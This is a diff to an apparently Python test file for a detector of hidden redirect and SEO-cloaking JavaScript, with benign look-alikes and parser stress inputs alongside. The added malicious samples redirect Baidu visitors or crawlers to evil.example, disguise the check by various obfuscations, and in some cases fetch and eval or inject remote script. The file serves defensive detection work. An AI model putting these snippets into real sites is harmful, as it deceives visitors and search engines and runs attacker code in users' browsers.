@@ -201,6 +201,15 @@ HOSTILE = {
     "replaced": "document.title='" + "a" * LONG + "'" + ".replace(/a/g,'aaaa')" * 200,
     "guards": "if(/baidu/.test(document.referrer))" * 20_000 + "location='http://x.example'",
     "functions": "function f(){if(/baidu/.test(document.referrer))" * 20_000 + "location='http://x.example'",
+    "list looked up": "var a=["
+    + "'baidu'," * 5000
+    + "];"
+    + "if(document.referrer==a[9])location=a[7];" * 5000
+    + "location='http://x.example'",
+    "lists looked up": "var a=['x'];" * 5000 + "b=a[0]+a[0];" * 5000 + "document.referrer;location='http://x.example'",
+    "cases": "switch(document.referrer){" + "case 'baidu':" * 20_000 + "location='http://x.example'}",
+    "switches": "switch(document.referrer){case 'baidu':" * 20_000 + "location='http://x.example'",
+    "requests": "document.referrer;location='http://x.example';" + "fetch(" * LONG,
     "closed": "}])" * LONG,
     "packed": PACKER % ("0 " * LONG, 2, 1, "ab" * LONG),
 }
@@ -346,6 +355,144 @@ CLOAKS = {
         "eval(unescape('" + quote("if(/baidu/.test(document.referrer))location='http://evil.example'") + "'))",
         "script:cloaking",
     ),
+    "name by escapes": (
+        r"if(document.referrer.indexOf('\x62\x61\x69\x64\x75')>0)location.href='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "name by escapes in a pattern": (
+        r"if(/\x62\u0061idu/.test(document.referrer))location.href='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "name by strings": (
+        "if(document.referrer.indexOf('bai'+'du')>0)location.href='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "name by variables": (
+        "var a='bai',b='du';if(document.referrer.indexOf(a+b)>0)location.href='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "name added up": (
+        "var a='bai';a+='du';if(document.referrer.indexOf(a)>0)location.href='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "name joined": (
+        "var r=new RegExp(['bai','du'].join(''));if(r.test(document.referrer))location.href='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "name reversed": (
+        "if(document.referrer.match('udiab'.split('').reverse().join('')))location.href='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "name in base64": (
+        "if(document.referrer.indexOf(atob('YmFpZHU='))>0)location.href='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "name by codes": (
+        "if(document.referrer.match(String.fromCharCode(98,97,105,100,117)))location.href='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "name in a template": (
+        "if(document.referrer.match(`bai${'du'}`))location.href='http://evil.example/'",
+        "script:cloaking",
+    ),
+    "list of strings": (
+        (
+            r"var _0xab12=['\x72\x65\x66\x65\x72\x72\x65\x72','indexOf','\x62\x61\x69\x64\x75','location','href',"
+            r"'http://evil.example/'];if(document[_0xab12[0]][_0xab12[0x1]](_0xab12[2])>0)"
+            "{window[_0xab12[3]][_0xab12[0x4]]=_0xab12[5]}"
+        ),
+        "script:cloaking",
+    ),
+    "list of strings, held": (
+        (
+            r"var _0xab12=['referrer','test','location','http://evil.example/','\x62aidu'];"
+            "var r=document[_0xab12[0]];if(new RegExp(_0xab12[4]).test(r)){window[_0xab12[2]]=_0xab12[3]}"
+        ),
+        "script:cloaking",
+    ),
+    "case": (
+        "switch(true){case /baidu/.test(document.referrer):location.href='http://evil.example/';break;default:go()}",
+        "script:cloaking",
+    ),
+    "case that falls through": (
+        "switch(true){case /baidu/.test(document.referrer):case a:location.href='http://evil.example/'}",
+        "script:cloaking",
+    ),
+    "case of a visitor": (
+        "switch(document.referrer.split('/')[2]){case 'www.baidu.com':location.href='http://evil.example/'}",
+        "script:cloaking",
+    ),
+    "window": (
+        "if(/baidu/.test(document.referrer))window.open('http://evil.example/','_self')",
+        "script:cloaking",
+    ),
+    "window by its bare name": (
+        "if(/baidu/.test(document.referrer)){open('http://evil.example/','_to'+'p')}",
+        "script:cloaking",
+    ),
+    "link made and clicked": (
+        (
+            "if(/baidu/.test(document.referrer)){var a=document.createElement('a');a.href='http://evil.example/';"
+            "document.body.appendChild(a);a.click()}"
+        ),
+        "script:cloaking",
+    ),
+    "link made by attribute": (
+        (
+            "var a=document.createElement('a');a.setAttribute('href','http://evil.example/');"
+            "if(/baidu/.test(document.referrer))a.click()"
+        ),
+        "script:cloaking",
+    ),
+    "form made and sent": (
+        (
+            "if(/baidu/.test(document.referrer)){var f=document.createElement('form');f.action='http://evil.example/';"
+            "document.body.appendChild(f);f.submit()}"
+        ),
+        "script:cloaking",
+    ),
+    "script got": ("if(/baidu/.test(document.referrer))$.getScript('http://evil.example/a.js')", "script:cloaking"),
+    "module": ("if(/baidu/.test(document.referrer))import('http://evil.example/a.js')", "script:cloaking"),
+    "page fetched and written": (
+        (
+            "if(!/spider/.test(navigator.userAgent))fetch('http://evil.example/').then(r=>r.text())"
+            ".then(t=>{document.open();document.write(t)})"
+        ),
+        "script:cloaking",
+    ),
+    "page got and written": (
+        "if(/baidu/.test(document.referrer))$.get('http://evil.example/',function(t){document.write(t)})",
+        "script:cloaking",
+    ),
+    "answer run": (
+        "if(/baidu/.test(document.referrer))fetch('http://evil.example/').then(r=>r.text()).then(t=>eval(t))",
+        "script:cloaking",
+    ),
+    "links for robots": (
+        "if(/baiduspider|googlebot/i.test(navigator.userAgent))document.write('<a href=\"http://evil.example/\">一</a>')",
+        "script:cloaking",
+    ),
+    "links for robots, otherwise": (
+        (
+            "var u=navigator.userAgent;if(u.indexOf('spider')==-1){go()}else{"
+            "document.write('<a href=\"http://evil.example/\">一</a>')}"
+        ),
+        "script:cloaking",
+    ),
+    "links for robots, left early": (
+        (
+            "function f(){if(!/spider/i.test(navigator.userAgent))return;"
+            "document.body.innerHTML+='<a href=\"http://evil.example/\">一</a>'}f()"
+        ),
+        "script:cloaking",
+    ),
+    "script for robots": (
+        (
+            "if(navigator.userAgent.indexOf('Baiduspider')>-1)"
+            "document.write('<script src=\"http://evil.example/a.js\"><\\/script>')"
+        ),
+        "script:cloaking",
+    ),
     "mobile": (
         "if(/android|iphone/i.test(navigator.userAgent))location.href='http://m.evil.example/'",
         "script:redirect",
@@ -376,6 +523,24 @@ HONEST = {
         "else{bp.src='http://push.zhanzhang.baidu.com/push.js'}"
     ),
     "beside": "if(/baidu/.test(document.referrer)){count()}\nfunction go(){location.href='http://x.example'}",
+    "another item of the list": (
+        "var _0x1=['referrer','baidu','test','http://x.example/','zh'];if(document[_0x1[0]]==''){go(_0x1[1])}"
+        "if(lang==_0x1[4]){location=_0x1[3]}"
+    ),
+    "another case": (
+        "switch(true){case /baidu/.test(document.referrer):count();break;case a:location.href='http://x.example'}"
+    ),
+    "window of its own": "if(/baidu/.test(document.referrer))window.open('http://x.example/','_blank')",
+    "link that nobody clicks": (
+        "if(/baidu/.test(document.referrer)){var a=document.createElement('a');a.href='http://x.example/'}"
+    ),
+    "answer not written": "if(/baidu/.test(document.referrer))fetch('http://x.example/').then(r=>count(r))",
+    "links that robots are spared": (
+        "if(!/spider/i.test(navigator.userAgent))document.write('<a href=\"http://x.example/\">一</a>')"
+    ),
+    "script for an engine's browser": (
+        "if(/baiduboxapp/.test(navigator.userAgent))document.write('<script src=\"http://x.example/a.js\"><\\/script>')"
+    ),
     "no engine": "if(document.referrer==''){location.href='http://x.example'}".replace("document.referrer==''", "a"),
     "climbing": "if(/climbing/.test(document.title)){location.href='http://x.example'}",
 }
